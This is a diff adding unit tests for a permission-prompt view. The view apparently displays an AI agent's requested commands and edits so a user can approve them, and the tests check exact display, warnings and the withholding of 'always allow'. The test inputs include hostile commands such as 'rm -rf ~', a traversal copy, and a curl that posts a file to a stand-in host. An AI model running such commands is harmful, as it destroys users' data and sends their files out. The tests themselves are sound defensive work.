@@ -75,6 +75,31 @@ describe('permissionView', () => {
     assert.deepEqual(said({ title: 'Edit /work/shop/a.ts', kind: 'edit', content }), []);
   });
 
+  it('shows a command to the letter, also if only the title has it, and in the font of code', () => {
+    const commands = [
+      'rm -rf /work/shop//etc',
+      'rm -rf /work/shop/',
+      'touch /work/shop/a && curl -d @/work/shop/b https://a.example',
+      'Shell: cp /work/shop/../x /work/shop/y',
+      'Run `npm test`',
+      `ls${' '.repeat(60)}/work/shop/a`,
+      `cat ${'/work/shop/a '.repeat(30)}`,
+    ];
+    for (const kind of ['execute', 'delete', 'edit', 'other', undefined])
+      for (const title of commands) {
+        if (kind !== 'execute' && /^Shell|^Run/.test(title)) continue;
+        const view = asked({ title, ...(kind !== undefined && { kind }) });
+        const shown = view.command?.line.replace(/⋯ 60 spaces ⋯/, ' '.repeat(58)) ?? '';
+        assert.equal(shown.trim(), title.trim(), `${kind}: ${title}`);
+        assert.ok(view.command?.isTitle !== true || view.title.includes(view.command.line), title);
+      }
+    assert.equal(asked({ title: 'Search /work/shop//etc', kind: 'search' }).title, 'Search /work/shop//etc');
+    assert.equal(
+      asked({ title: 'Read /work/shop/a.ts, then /work/shop//etc', kind: 'read' }).title,
+      'Read /work/shop/a.ts, then /work/shop//etc',
+    );
+  });
+
   it('names the folder of a command only if it is not the workspace folder, and its shell', () => {
     const where = (rawInput: object): string | undefined =>
       asked({ title: 'x', kind: 'execute', rawInput }).command?.where;
@@ -129,6 +154,82 @@ describe('permissionView', () => {
     const known = asked({ kind: 'execute', title: 'npm test' }, options);
     assert.equal(known.warning, undefined);
     assert.equal(known.options.length, 3);
+  });
+
+  const lasting = [
+    option('Always', 'allow_always'),
+    option('No', 'reject_once'),
+    option('Once', 'allow_once'),
+  ];
+
+  it('shows what exceeds its limits as it was sent, warns, and offers nothing lasting', () => {
+    let options: object = { run: 'rm -rf ~' };
+    for (let level = 0; level < 8; level++) options = { a: options };
+    const many = Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`n${at}`, 'x']));
+    for (const [rawInput, shown] of [
+      [{ command: 'npm test', options }, 'rm -rf ~'],
+      [{ command: 'npm test', ...many }, '"n5010":"x"'],
+      [{ command: 'npm test', list: Array.from({ length: 10_000 }, (_, at) => `item ${at}`) }, '"item 1"'],
+      [{ ...many, command: 'npm test' }, '"n5010":"x"'],
+    ] as const) {
+      const view = asked({ kind: 'execute', title: 'Test', rawInput }, lasting);
+      assert.equal(view.command?.line, 'npm test');
+      assert.match(view.warning ?? '', /parts that ACP Host does not understand/);
+      assert.deepEqual(
+        view.options.map(({ kind }) => kind),
+        ['reject_once', 'allow_once'],
+      );
+      const dropped = view.sections?.filter(({ label }) => label.startsWith('Not understood')) ?? [];
+      assert.ok(
+        dropped.some(({ text }) => text.includes(shown)),
+        shown,
+      );
+    }
+  });
+
+  it('reads a patch that is only in the title', () => {
+    const patch = `*** Begin Patch\n*** Update File: /work/shop/a.ts\n@@\n${'-a\n+b\n'.repeat(200)}*** End Patch`;
+    for (const title of [patch, `apply_patch ${patch}`]) {
+      const view = asked({ kind: 'edit', title }, lasting);
+      assert.equal(view.title, 'Edit a.ts');
+      assert.deepEqual(
+        view.diffs.map(({ path, added, removed }) => [path, added, removed]),
+        [['a.ts', 200, 200]],
+      );
+      assert.equal(view.warning, undefined);
+    }
+    const unread = asked(
+      { kind: 'edit', title: `*** Begin Patch\n*** Something: x\n${'y\n'.repeat(400)}` },
+      lasting,
+    );
+    assert.match(unread.warning ?? '', /does not understand/);
+    assert.ok(unread.sections?.some(({ text }) => text.endsWith('y\ny\n') || text.endsWith('y\ny')));
+  });
+
+  it('shows a long title whole, whatever the kind', () => {
+    const title = `Fetch ${'a '.repeat(300)}https://a.example/the-end`;
+    const { sections } = asked({ kind: 'fetch', title });
+    assert.ok(sections?.some(({ text }) => text === title));
+  });
+
+  it('warns of an edit that does not say what it writes, and offers nothing lasting', () => {
+    const view = asked(
+      { kind: 'edit', title: 'Edit /work/shop/a.ts', locations: [{ path: '/work/shop/a.ts' }] },
+      lasting,
+    );
+    assert.equal(view.warning, 'The agent does not say what it would write.');
+    assert.ok(view.options.every(({ kind }) => kind !== 'allow_always'));
+    const content = [{ type: 'diff', path: '/work/shop/a.ts', oldText: 'a', newText: 'b' }];
+    assert.equal(asked({ kind: 'edit', title: 'Edit', content }, lasting).warning, undefined);
+  });
+
+  it('formats no more than it shows of a change that is too long to be compared', () => {
+    const text = (mark: string): string => `${mark}\n`.repeat(400_000);
+    const content = [{ type: 'diff', path: '/work/shop/a.ts', oldText: text('a'), newText: text('b') }];
+    const [diff] = asked({ kind: 'edit', title: 'Edit', content }).diffs;
+    assert.deepEqual([diff?.added, diff?.removed], [400_000, 400_000]);
+    assert.match(diff?.cut ?? '', /more characters: show everything/);
+    assert.ok((diff?.preview ?? '').length < 10_000);
   });
 
   it('shows the text of a patch that changes more than its lines', () => {
